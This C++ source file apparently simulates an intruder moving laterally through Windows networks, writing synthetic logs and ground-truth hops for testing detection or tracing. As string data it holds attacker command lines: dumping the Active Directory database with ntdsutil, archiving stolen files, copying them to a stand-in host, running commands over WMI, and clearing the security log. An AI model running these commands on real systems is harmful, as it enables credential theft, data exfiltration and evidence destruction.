#include "simulate/intruder.h"

#include <fmt/format.h>

#include <array>

namespace hoptrace::simulate {
namespace {

using base::Time;

// When an intruder of a stealth is at work (minutes of the day, local), and how long between two acts (seconds).
struct Manner {
  int from, to;
  int shortest, longest;
  int tools_percent;
};
constexpr std::array kManners{Manner{22 * 60, 28 * 60, 40, 360, 100}, Manner{21 * 60, 28 * 60, 150, 1'300, 95},
                              Manner{16 * 60 + 30, 21 * 60, 300, 2'400, 90},
                              Manner{8 * 60 + 30, 17 * 60, 600, 4'200, 80}};

struct Tool {
  std::string_view image, command_line, what;
};
constexpr std::array kTools{
    Tool{"C:\\Windows\\System32\\ntdsutil.exe", "ntdsutil \"ac i ntds\" ifm \"create full C:\\PerfLogs\\n\" q q",
         "a copy of the directory's database"},
    Tool{"C:\\recovery\\csvde.exe", "csvde -f C:\\windows\\web\\dirlog.log", "the directory exported"},
    Tool{"C:\\$Recycle.Bin\\r.exe", "r.exe a -v100m -hp***** C:\\$Recycle.Bin\\d.rar D:\\designs",
         "archives in the recycle bin"},
    Tool{"C:\\recovery\\rundll32.exe", "rundll32.exe -P 22 -pw ***** C:\\PerfLogs\\d.rar sync@198.51.100.77:/tmp/",
         "a secure copy client named rundll32"},
    Tool{"C:\\Windows\\System32\\cscript.exe",
         "cscript.exe //nologo C:\\PerfLogs\\t.vbs /cmd 127.0.0.1 u p \"ipconfig\"",
         "a script that runs commands by WMI"},
};
constexpr std::array kHandsOn{Way::kSmbExec, Way::kWmi, Way::kService, Way::kSchtask, Way::kWinrm, Way::kRdp};
constexpr std::array kQuiet{Way::kRdp, Way::kWinrm, Way::kRdp, Way::kWmi};

constexpr int kLeaves = 300;  // seconds after the last thing done at a desktop

Started process(World& w, std::string_view image, std::string_view command_line, std::string_view parent,
                const Who& who) {
  Started s;
  s.image = image, s.command_line = command_line, s.parent_image = parent, s.who = who;
  s.pid = w.new_pid(), s.parent_pid = w.new_pid();
  return s;
}

void start(World& w, HostIndex host, Time at, const Started& s) {
  w.write(host, WitnessSide::kExecution, records::created(w.local(host, at), s.who, s));
  w.write(host, WitnessSide::kExecution, records::started(w.local(host, at), s));
}

// The implant of the first host: side-loaded, in an empty svchost, with its named pipe.
void implant(World& w, HostIndex host, Time at, const Who& who) {
  const Started loader =
      process(w, "C:\\PerfLogs\\aim.exe", "C:\\PerfLogs\\aim.exe", "C:\\Windows\\explorer.exe", who);
  const Started hollow =
      process(w, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\svchost.exe", loader.image, who);
  w.write(host, WitnessSide::kExecution, records::written(w.local(host, at), loader, "C:\\PerfLogs\\libcef.dll"));
  start(w, host, {at.ticks + 20'000'000}, loader);
  start(w, host, {at.ticks + 40'000'000}, hollow);
  w.write(host, WitnessSide::kExecution,
          records::pipe(w.local(host, {at.ticks + 50'000'000}), hollow, "\\NamePipe_MoreWindows"));
}

}  // namespace

Intruder::Intruder(World& world, const IntruderOptions& how, int its_id) : id(its_id), world_(world), options_(how) {
  const int days = world.plan.days;
  const Manner& manner = kManners[static_cast<std::size_t>(options_.stealth)];
  int day = static_cast<int>(world.dice.between(1, std::max(1, days - 3)));
  while (day % 7 >= 5) --day;
  now_ = world.plan.moment(day, static_cast<int>(world.dice.between(manner.from, manner.from + 90)), 7);
}

void Intruder::wait() {
  if (in_burst_) {
    now_.ticks += world_.dice.between(6, 25) * Time::kTicksPerSecond;
    return;
  }
  const Manner& manner = kManners[static_cast<std::size_t>(options_.stealth)];
  now_.ticks += world_.dice.between(manner.shortest, manner.longest) * Time::kTicksPerSecond +
                world_.dice.between(0, 9'999'999);
  const std::int64_t day_ticks = 86'400LL * Time::kTicksPerSecond;
  const std::int64_t since = now_.ticks - world_.plan.first_midnight.ticks;
  std::int64_t day = since / day_ticks;
  std::int64_t minute = since % day_ticks / (60 * Time::kTicksPerSecond);
  if (manner.to > 24 * 60 && minute < manner.from % (24 * 60) - 8 * 60) --day, minute += 24 * 60;  // past midnight
  if (minute <= manner.to || day + 1 >= world_.plan.days) return;
  now_ = world_.plan.moment(static_cast<int>(day + 1),
                            static_cast<int>(world_.dice.between(manner.from, manner.from + 60)), 13);
}

void Intruder::begin(HostIndex host, bool with_implant) {
  patient_zero = host;
  last_host_ = host;
  if (!with_implant || !options_.tools) return;
  const Time at = now_;
  seeds.push_back({host, at, "an implant", {}});
  const std::size_t seed = seeds.size() - 1;
  world_.at(at, [this, host, at, seed] {
    const Who who = world_.console(host, at);
    (*sessions_)[host] = who;
    world_.watching = &seeds[seed].seen;
    implant(world_, host, at, who);
    world_.watching = nullptr;
  });
}

Way Intruder::some_way() {
  return options_.stealth >= 2 ? world_.dice.one_of(kQuiet) : world_.dice.one_of(kHandsOn);
}

void Intruder::hop(HostIndex from, HostIndex to, AccountIndex account, Way way, bool by_vpn) {
  wait();
  Passage p;
  p.at = now_, p.from = from, p.to = to, p.account = account, p.way = way, p.intrusion = id;
  p.what = way == Way::kService ? "C:\\ProgramData\\NetCfg\\agent.exe" : "ipconfig /all";
  p.seconds = static_cast<int>(way == Way::kRdp   ? world_.dice.between(9'000, 30'000)
                               : way == Way::kSmb ? world_.dice.between(4, 9)
                                                  : world_.dice.between(6, 240));
  if (way == Way::kSmb) p.what = "C$\\Windows\\Temp\\d.rar";
  p.hash_only = options_.stealth <= 1 && way != Way::kRdp && world_.dice.chance(25);
  if (options_.forge && world_.dice.chance(60))
    p.workstation =
        world_.dice.chance(50) ? fmt::format("WIN-{}", world_.dice.between(1'000'000, 9'999'999)) : "WS02";
  if (by_vpn) {
    const Organisation& o = world_.plan.organisations[world_.plan.machines[to].organisation];
    const Organisation& home = world_.plan.organisations[world_.plan.machines[from].organisation];
    p.from_vpn = o.vpn_pool + std::to_string(world_.dice.between(61, 90));
    vpn::openvpn_session(world_.sensors, o.tenant, {now_.ticks - 120 * Time::kTicksPerSecond},
                         {now_.ticks + (p.seconds + 200) * Time::kTicksPerSecond},
                         world_.plan.accounts[account].user.substr(4), home.outside, p.from_vpn);
  }
  TruthHop truth;
  truth.at = p.at;
  truth.from = from;
  truth.to = to;
  truth.account = world_.plan.account_name(account);
  truth.method = way_name(way);
  if (way == Way::kRmm) truth.account = "NT AUTHORITY\\SYSTEM";
  truth.border = world_.plan.machines[from].organisation != world_.plan.machines[to].organisation;
  truth.through_vpn = by_vpn;
  hops.push_back(std::move(truth));
  const std::size_t n = hops.size() - 1;
  const bool stays = way != Way::kSmb && way != Way::kGdap;
  last_used_[from] = p.at;
  world_.at(p.at, [this, p, n, stays, by_vpn]() mutable {
    // A desktop in which more is done later is not left before.
    if (p.way == Way::kRdp) p.seconds = std::max(p.seconds, seconds_in_use(p.to, p.at));
    p.actor = (*sessions_)[p.from];
    if (p.actor.user == "-") p.actor = world_.console(p.from, p.at);
    world_.watching = &hops[n].seen;
    if (by_vpn) world_.told(world_.plan.machines[p.to].organisation, "vpn/openvpn.log", WitnessSide::kNetwork, p.at);
    const Who session = pass(world_, p);
    world_.watching = nullptr;
    if (stays) (*sessions_)[p.to] = session;
  });
  if (stays) tool(to, false);
  last_host_ = to;
}

void Intruder::files(HostIndex from, const std::vector<HostIndex>& to, AccountIndex account) {
  for (const HostIndex host : to) {
    if (host == from) continue;
    if (!hops.empty() && options_.stealth <= 1 && host != to.front()) {
      // A burst: a few seconds to each, without the wait of other acts.
      in_burst_ = true;
    }
    hop(from, host, account, Way::kSmb);
    in_burst_ = false;
  }
}

void Intruder::tool(HostIndex host, bool certainly) {
  const Manner& manner = kManners[static_cast<std::size_t>(options_.stealth)];
  if (!options_.tools) return;
  if (!certainly && !world_.dice.chance(manner.tools_percent)) return;
  const Time at{now_.ticks + world_.dice.between(20, std::max(21, manner.shortest - 5)) * Time::kTicksPerSecond};
  const Tool& t = world_.dice.one_of(kTools);
  seeds.push_back({host, at, std::string(t.what), {}});
  const std::size_t seed = seeds.size() - 1;
  last_used_[host] = at;
  world_.at(at, [this, host, at, seed, &t] {
    const Who who = sessions_->contains(host) ? (*sessions_)[host] : world_.console(host, at);
    world_.watching = &seeds[seed].seen;
    start(world_, host, at, process(world_, t.image, t.command_line, "C:\\Windows\\System32\\cmd.exe", who));
    world_.watching = nullptr;
  });
}

// All that is planned is known before anything happens.
int Intruder::seconds_in_use(HostIndex host, Time since) const {
  const auto last = last_used_.find(host);
  if (last == last_used_.end() || last->second < since) return 0;
  return static_cast<int>((last->second.ticks - since.ticks) / Time::kTicksPerSecond) + kLeaves;
}

void Intruder::finish() {
  wait();
  tool(last_host_, true);
}

void clear_log(World& world, HostIndex host, Time at, const Who& who) {
  world.write(host, WitnessSide::kExecution, records::cleared(world.local(host, at), who));
  world.logs.cut(world.logs.hosts()[host], "Security", world.local(host, at));
}

}  // namespace hoptrace::simulate
